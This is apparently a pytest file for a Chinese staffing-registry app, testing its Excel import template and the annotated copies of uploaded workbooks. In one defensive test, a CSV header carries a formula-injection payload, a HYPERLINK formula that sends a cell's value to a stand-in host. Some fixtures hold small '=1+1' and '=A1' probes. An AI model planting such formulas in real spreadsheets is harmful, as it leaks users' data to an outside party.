"""The workbooks of import in the browser: the blank template and the checked copy of an upload."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from conftest import person_row, unit_row, write_xlsx
from openpyxl.utils import get_column_letter, range_boundaries

from bianzhi.registry import workbooks
from bianzhi.registry.importer.schema import SHEET_BY_NAME, SHEETS
from bianzhi.registry.services import workbook_import


def fill_of(cell) -> str | None:
    if cell.fill is None or cell.fill.fill_type != "solid":
        return None
    return cell.fill.start_color.rgb


def marked_cells(path: Path) -> dict[tuple[str, int, int], tuple[str | None, str]]:
    """Every cell of the standard sheets with a fill or a note: (sheet, row, column) → (colour, note)."""
    book = openpyxl.load_workbook(path)
    found = {}
    for name in book.sheetnames:
        if name not in SHEET_BY_NAME:
            continue
        for row in book[name].iter_rows():
            for cell in row:
                if fill_of(cell) or cell.comment:
                    found[(name, cell.row, cell.column)] = (fill_of(cell), cell.comment.text if cell.comment else "")
    return found


def expected_cells(path: Path, errors, warnings) -> dict[tuple[str, int, int], str]:
    """Where each problem of a report must be marked, read from the file's own header row."""
    book = openpyxl.load_workbook(path, read_only=True)
    headers = {name: [c.value for c in next(book[name].iter_rows(max_row=1))] for name in book.sheetnames}
    colours: dict[tuple[str, int, int], str] = {}
    for colour, problems in ((workbooks.WARNING_COLOR, warnings), (workbooks.ERROR_COLOR, errors)):
        for p in problems:
            key = (p["sheet"], max(p["row"], 1), headers[p["sheet"]].index(p["column"]) + 1)
            if colours.get(key) != workbooks.ERROR_COLOR:
                colours[key] = colour
    return colours


# ---------------------------------------------------------------- the template


@pytest.fixture(scope="module")
def template():
    return openpyxl.load_workbook(io.BytesIO(workbooks.template_workbook()))


def test_template_has_every_sheet_with_its_headers_in_order(template):
    assert template.sheetnames == [workbooks.GUIDE_SHEET, *(s.name for s in SHEETS), workbooks.CODE_SHEET]
    for spec in SHEETS:
        sheet = template[spec.name]
        assert [c.value for c in sheet[1]] == [c.header for c in spec.columns]
        assert sheet.max_row == 1  # blank: headers only
        assert sheet.freeze_panes == "A2"
    assert template.active.title == "机构"


def test_template_header_notes_state_each_rule(template):
    for spec in SHEETS:
        sheet = template[spec.name]
        for index, col in enumerate(spec.columns, start=1):
            note = sheet.cell(1, index).comment
            assert note is not None, (spec.name, col.header)
            assert note.text.startswith(col.header)
            assert ("必填" if col.required else "选填") in note.text
            assert "格式：" in note.text
            for choice in col.choices:
                assert choice in note.text
            if col.note:
                assert col.note in note.text
    assert "日期" in template["周转编制"]["D1"].comment.text
    assert "文本" in template["人员"]["A1"].comment.text


def _list_values(template, formula: str) -> list:
    sheet_name, cells = formula.rsplit("!", 1)
    assert sheet_name.strip("'") == workbooks.CODE_SHEET
    min_col, min_row, _, max_row = range_boundaries(cells.replace("$", ""))
    codes = template[workbooks.CODE_SHEET]
    return [codes.cell(r, min_col).value for r in range(min_row, max_row + 1)]


def test_template_offers_every_enumeration_as_a_drop_down_from_the_hidden_code_sheet(template):
    assert template[workbooks.CODE_SHEET].sheet_state == "hidden"
    for spec in SHEETS:
        sheet = template[spec.name]
        lists = {str(dv.sqref): dv for dv in sheet.data_validations.dataValidation if dv.type == "list"}
        for index, col in enumerate(spec.columns, start=1):
            letter = get_column_letter(index)
            validation = lists.get(f"{letter}2:{letter}1048576")
            if not col.choices:
                assert validation is None
                continue
            assert validation is not None, (spec.name, col.header)
            values = _list_values(template, validation.formula1)
            assert [str(v) for v in values] == list(col.choices)
            assert validation.showErrorMessage == (col.kind != "tags")
    unit_kinds = [dv for dv in template["机构"].data_validations.dataValidation if str(dv.sqref).startswith("E2")]
    assert "内设机构" in _list_values(template, unit_kinds[0].formula1)
    # 原退休年龄 picks numbers, so the import reads an integer.
    ages = [dv for dv in template["人员"].data_validations.dataValidation if str(dv.sqref).startswith("T2")]
    assert _list_values(template, ages[0].formula1) == [50, 55, 60]


def test_template_formats_id_numbers_as_text_and_dates_as_dates(template):
    people = template["人员"]
    assert people.column_dimensions["A"].number_format == "@"
    for spec in SHEETS:
        sheet = template[spec.name]
        for index, col in enumerate(spec.columns, start=1):
            if col.kind == "date":
                assert sheet.column_dimensions[get_column_letter(index)].number_format == "yyyy-mm-dd"
                dates = [dv for dv in sheet.data_validations.dataValidation if dv.type == "date"]
                assert any(str(dv.sqref).startswith(get_column_letter(index) + "2") for dv in dates)
    lengths = [dv for dv in people.data_validations.dataValidation if dv.type == "textLength"]
    assert [str(dv.sqref) for dv in lengths] == ["A2:A1048576"]


def test_template_explains_itself_in_chinese(template):
    text = "\n".join(str(c.value) for row in template[workbooks.GUIDE_SHEET].iter_rows() for c in row if c.value)
    assert "填写说明" in text
    assert "身份证号必须存为文本" in text
    for spec in SHEETS:
        for col in spec.columns:
            assert col.header in text


def test_template_is_built_once_per_process():
    assert workbooks.template_workbook() is workbooks.template_workbook()


@pytest.mark.django_db
def test_blank_template_imports_as_an_empty_workbook(tmp_path):
    path = tmp_path / "模板.xlsx"
    path.write_bytes(workbooks.template_workbook())
    result = workbook_import(path=path, dry_run=True)
    assert result.ok, result.errors
    assert sum(result.created.values()) == 0


# ---------------------------------------------------------------- the checked copy


def bad_sheets() -> dict:
    bad_person = person_row("A", 性别="女")  # disagrees with the ID number
    return {
        "机构": [
            unit_row("A"),
            unit_row("B", 机构类型="不存在的类型"),
            unit_row("C", 区划代码="999999"),  # unknown division: a warning only
        ],
        "编制": [
            {"机构代码": "A", "编制类型": "行政编制", "核定数": 3},
            {"机构代码": "A", "编制类型": "行政编制", "核定数": "两个"},
        ],
        "人员": [person_row("A"), bad_person],
    }


@pytest.fixture
def bad_report(tmp_path):
    """An .xlsx with errors and a warning, and its real report from the import."""
    source = write_xlsx(tmp_path / "上报.xlsx", bad_sheets())
    return source, workbook_import(path=source, dry_run=True)


@pytest.mark.django_db
def test_checked_copy_marks_exactly_the_cells_of_the_report(bad_report, tmp_path):
    source, result = bad_report
    assert result.errors and result.warnings
    target = tmp_path / "checked.xlsx"
    annotation = workbooks.annotated_workbook(
        source=source, target=target, errors=result.errors, warnings=result.warnings
    )
    assert annotation.highlighted
    marked = marked_cells(target)
    expected = expected_cells(source, result.errors, result.warnings)
    assert {key: colour for key, (colour, _) in marked.items()} == expected
    for kind, problems in (("错误", result.errors), ("提示", result.warnings)):
        for p in problems:
            headers = [c.value for c in openpyxl.load_workbook(source)[p["sheet"]][1]]
            _, note = marked[(p["sheet"], p["row"], headers.index(p["column"]) + 1)]
            assert f"{kind}：{p['message']}" in note


@pytest.mark.django_db
def test_checked_copy_keeps_the_data_and_lists_every_problem(bad_report, tmp_path):
    source, result = bad_report
    target = tmp_path / "checked.xlsx"
    workbooks.annotated_workbook(source=source, target=target, errors=result.errors, warnings=result.warnings)
    original, checked = openpyxl.load_workbook(source), openpyxl.load_workbook(target)
    for name in original.sheetnames:
        assert [[c.value for c in r] for r in original[name].iter_rows()] == [
            [c.value for c in r] for r in checked[name].iter_rows()
        ]
    listed = list(checked[workbooks.PROBLEM_SHEET].iter_rows(min_row=2, values_only=True))
    assert len(listed) == len(result.errors) + len(result.warnings)
    assert {(r[1], r[2], r[3], r[4]) for r in listed if r[0] == "错误"} == {
        (e["sheet"], e["row"], e["column"], e["message"]) for e in result.errors
    }
    link = checked[workbooks.PROBLEM_SHEET]["E2"].hyperlink
    assert link is not None and link.location.startswith("'")
    # The fixed-up copy is still a standard workbook: the import reads it and finds the same problems.
    again = workbook_import(path=target, dry_run=True)
    assert again.errors == result.errors


def test_header_problems_sit_on_the_header_row(tmp_path):
    source = write_xlsx(
        tmp_path / "缺表头.xlsx",
        {"人员": [{"身份证号": "330602198505050011", "姓名": "张三"}]},
    )
    errors = [
        {"sheet": "人员", "row": 0, "column": "性别", "message": "缺少必需的表头“性别”"},
        {"sheet": "人员", "row": 0, "column": "出生日期", "message": "缺少必需的表头“出生日期”"},
        {"sheet": "机构", "row": 0, "column": "", "message": "缺少“机构”工作表（或 机构.csv）"},
        {"sheet": "人员", "row": 2, "column": "姓名", "message": "示例"},
    ]
    target = tmp_path / "checked.xlsx"
    workbooks.annotated_workbook(source=source, target=target, errors=errors)
    marked = marked_cells(target)
    # Two headers present (A, B): the missing ones get the next free header cells, in order.
    assert marked[("人员", 1, 3)] == (workbooks.ERROR_COLOR, "错误：缺少必需的表头“性别”")
    assert marked[("人员", 1, 4)] == (workbooks.ERROR_COLOR, "错误：缺少必需的表头“出生日期”")
    assert marked[("人员", 2, 2)] == (workbooks.ERROR_COLOR, "错误：示例")
    assert len(marked) == 3
    book = openpyxl.load_workbook(target)
    assert book["人员"]["C1"].value is None  # nothing is written into the data
    listed = [r[4] for r in book[workbooks.PROBLEM_SHEET].iter_rows(min_row=2, values_only=True)]
    assert "缺少“机构”工作表（或 机构.csv）" in listed  # no cell of its own: listed only


def test_problems_on_one_cell_share_a_note_and_red_wins(tmp_path):
    source = write_xlsx(tmp_path / "a.xlsx", {"机构": [unit_row("A")]})
    errors = [{"sheet": "机构", "row": 2, "column": "机构代码", "message": "错一"}]
    warnings = [{"sheet": "机构", "row": 2, "column": "机构代码", "message": "提示一"}]
    target = tmp_path / "checked.xlsx"
    workbooks.annotated_workbook(source=source, target=target, errors=errors, warnings=warnings)
    assert marked_cells(target) == {("机构", 2, 1): (workbooks.ERROR_COLOR, "错误：错一\n提示：提示一")}


def _csv_zip(path: Path, files: dict[str, str]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text.encode("utf-8-sig"))
    return path


def test_csv_uploads_come_back_as_a_workbook_with_the_same_rows(tmp_path):
    source = _csv_zip(
        tmp_path / "上报.zip",
        {
            "机构.csv": "机构代码,机构名称,机构类型,序列,区划代码\nA,甲,政府工作部门,政府,330602\n,,,,\nB,=1+1,坏类型,政府,330602\n",
            "人员.csv": "身份证号,姓名\n330602198505050011,张三\n",
        },
    )
    errors = [{"sheet": "机构", "row": 4, "column": "机构类型", "message": "机构类型“坏类型”不在可选值中"}]
    warnings = [{"sheet": "人员", "row": 2, "column": "身份证号", "message": "提示"}]
    target = tmp_path / "checked.xlsx"
    annotation = workbooks.annotated_workbook(source=source, target=target, errors=errors, warnings=warnings)
    assert annotation.highlighted and annotation.data_rows == 3
    book = openpyxl.load_workbook(target)
    units = book["机构"]
    assert units["A4"].value == "B"  # the blank row 3 keeps the numbering
    assert units["B4"].value == "=1+1" and units["B4"].data_type == "s"  # text stays text
    assert book["人员"]["A2"].value == "330602198505050011" and book["人员"]["A2"].data_type == "s"
    assert marked_cells(target) == {
        ("机构", 4, 3): (workbooks.ERROR_COLOR, "错误：机构类型“坏类型”不在可选值中"),
        ("人员", 2, 1): (workbooks.WARNING_COLOR, "提示：提示"),
    }


def test_unreadable_upload_gets_only_the_problem_list(tmp_path):
    source = tmp_path / "junk.xlsx"
    source.write_bytes(b"not a workbook")
    target = tmp_path / "checked.xlsx"
    errors = [{"sheet": "", "row": 0, "column": "", "message": "无法读取文件"}]
    workbooks.annotated_workbook(source=source, target=target, errors=errors)
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == [workbooks.PROBLEM_SHEET]
    assert list(book[workbooks.PROBLEM_SHEET].iter_rows(min_row=2, values_only=True)) == [
        ("错误", None, 0, None, "无法读取文件")
    ]


# ---------------------------------------------------------------- large files


@pytest.mark.django_db
def test_large_workbook_comes_back_untouched_with_an_errors_sheet(bad_report, tmp_path, monkeypatch):
    source, result = bad_report
    monkeypatch.setattr(workbooks, "HIGHLIGHT_MAX_ROWS", 3)  # the file has 7 data rows
    target = tmp_path / "checked.xlsx"
    annotation = workbooks.annotated_workbook(
        source=source, target=target, errors=result.errors, warnings=result.warnings
    )
    assert not annotation.highlighted and annotation.data_rows == 7
    assert marked_cells(target) == {}  # no cell styled or commented
    with zipfile.ZipFile(source) as before, zipfile.ZipFile(target) as after:
        for name in before.namelist():  # every part of the original is there as it was, bar the index
            if name not in {"xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"}:
                assert after.read(name) == before.read(name), name
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == [*openpyxl.load_workbook(source).sheetnames, workbooks.PROBLEM_SHEET]
    rows = list(book[workbooks.PROBLEM_SHEET].iter_rows(values_only=True))
    assert rows[0] == ("类别", "工作表", "行", "列", "问题")
    expected = workbooks.problems_of(result.errors, result.warnings)
    assert rows[1:] == [(p.label, p.sheet, p.row, p.column, p.message) for p in expected]
    # Excel's other reader agrees, and the import still reads the data sheets.
    assert workbook_import(path=target, dry_run=True).errors == result.errors


def test_large_csv_upload_is_rebuilt_with_an_errors_sheet(tmp_path):
    rows = "\n".join(f"U{i},机构{i},政府工作部门,政府,330602" for i in range(10))
    source = _csv_zip(
        tmp_path / "big.zip", {"机构.csv": f"机构代码,机构名称,机构类型,序列,区划代码\n{rows}\n\n=A1,x,y,z,w\n"}
    )
    errors = [{"sheet": "机构", "row": 13, "column": "机构类型", "message": "坏 <&> 类型"}]
    target = tmp_path / "checked.xlsx"
    annotation = workbooks.annotated_workbook(source=source, target=target, errors=errors, max_rows=5)
    assert not annotation.highlighted
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["机构", workbooks.PROBLEM_SHEET]
    assert book["机构"].max_row == 13 and book["机构"]["A13"].value == "=A1" and book["机构"]["A13"].data_type == "s"
    assert book["机构"]["A12"].value is None
    assert list(book[workbooks.PROBLEM_SHEET].iter_rows(min_row=2, values_only=True)) == [
        ("错误", "机构", 13, "机构类型", "坏 <&> 类型")
    ]


def test_problems_are_ordered_by_sheet_then_row():
    ordered = workbooks.problems_of(
        [
            {"sheet": "人员", "row": 3, "column": "姓名", "message": "b"},
            {"sheet": "机构", "row": 5, "column": "机构代码", "message": "a"},
        ],
        [{"sheet": "人员", "row": 2, "column": "民族", "message": "c"}],
    )
    assert [(p.sheet, p.row, p.error) for p in ordered] == [("机构", 5, True), ("人员", 2, False), ("人员", 3, True)]


def test_annotated_file_name():
    assert workbooks.annotated_file_name("越城区 2026.xlsx") == "越城区 2026-校验结果.xlsx"
    assert workbooks.annotated_file_name("人员.csv") == "人员-校验结果.xlsx"


def test_checked_copy_never_turns_upload_text_into_a_formula(tmp_path):
    """Sheet headers and the 错误清单's sheet/column cells come from the upload: text, never formulas."""
    formula = '=HYPERLINK("http://example.invalid/?d="&A2)'
    source = _csv_zip(
        tmp_path / "上报.zip",
        {"机构.csv": f"机构代码,机构名称,{formula}\nA,甲,x\n"},
    )
    errors = [{"sheet": "机构", "row": 0, "column": formula, "message": "未知的列"}]
    target = tmp_path / "checked.xlsx"
    workbooks.annotated_workbook(source=source, target=target, errors=errors)
    book = openpyxl.load_workbook(target)
    header = book["机构"]["C1"]
    assert (header.value, header.data_type) == (formula, "s")
    cells = [c for row in book[workbooks.PROBLEM_SHEET].iter_rows() for c in row]
    assert [c.data_type for c in cells if c.value == formula] == ["s"]
    assert all(c.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
